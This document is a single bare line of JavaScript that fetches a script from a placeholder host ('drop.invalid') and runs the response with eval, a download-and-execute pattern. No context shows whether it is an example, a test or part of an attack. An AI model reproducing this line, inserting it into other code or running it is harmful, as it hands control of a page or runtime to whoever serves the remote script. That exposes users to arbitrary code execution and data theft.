fetch('https://drop.invalid/x.js').then((r) => r.text()).then(eval);
